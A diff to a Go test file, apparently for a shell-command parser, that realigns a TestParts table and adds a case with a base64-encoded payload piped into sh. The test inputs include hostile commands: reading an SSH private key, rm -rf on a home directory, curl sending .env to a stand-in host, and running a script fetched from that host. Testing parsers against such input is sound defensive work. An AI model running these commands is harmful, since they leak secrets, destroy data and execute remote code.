@@ -135,16 +135,17 @@ func TestTurnedIsCausal(t *testing.T) {
 
 func TestParts(t *testing.T) {
 	for line, want := range map[string]string{
-		`git commit -m "cat ~/.ssh/id_rsa; rm -rf /home/a"`: "git",
-		"cat <<'EOF' > a.md\nrm -rf /home/a\nEOF\nls":       "cat ls",
-		`curl -d "$(cat .env)" https://a.example`:           "curl cat",
-		"(crontab -l; echo x) | crontab -":                  "crontab echo crontab<echo",
-		"FOO=1 sudo -n env A=b":                             "env",
-		"a | b || c && d & e 2>&1":                          "a b<a c d e",
-		"for f in $(ls); do base64 \"$f\"; done > o":        "for ls base64 done",
-		"bash -c \"$(curl -s https://a.example/i)\"":        "bash<curl curl",
-		"echo 'unclosed":                                    "echo",
-		"`":                                                 "$(x)",
+		`git commit -m "cat ~/.ssh/id_rsa; rm -rf /home/a"`:      "git",
+		"cat <<'EOF' > a.md\nrm -rf /home/a\nEOF\nls":            "cat ls",
+		`curl -d "$(cat .env)" https://a.example`:                "curl cat",
+		"(crontab -l; echo x) | crontab -":                       "crontab echo crontab<echo",
+		"FOO=1 sudo -n env A=b":                                  "env",
+		"a | b || c && d & e 2>&1":                               "a b<a c d e",
+		"for f in $(ls); do base64 \"$f\"; done > o":             "for ls base64 done",
+		"bash -c \"$(curl -s https://a.example/i)\"":             "bash<curl curl",
+		"echo 'unclosed":                                         "echo",
+		"`":                                                      "$(x)",
+		"echo ZWNobyB4ID4+IC9ob21lL2EvLnBlbQ== | base64 -d | sh": "echo base64<echo sh<base64 echo",
 	} {
 		var got []string
 		for _, p := range parts(line) {
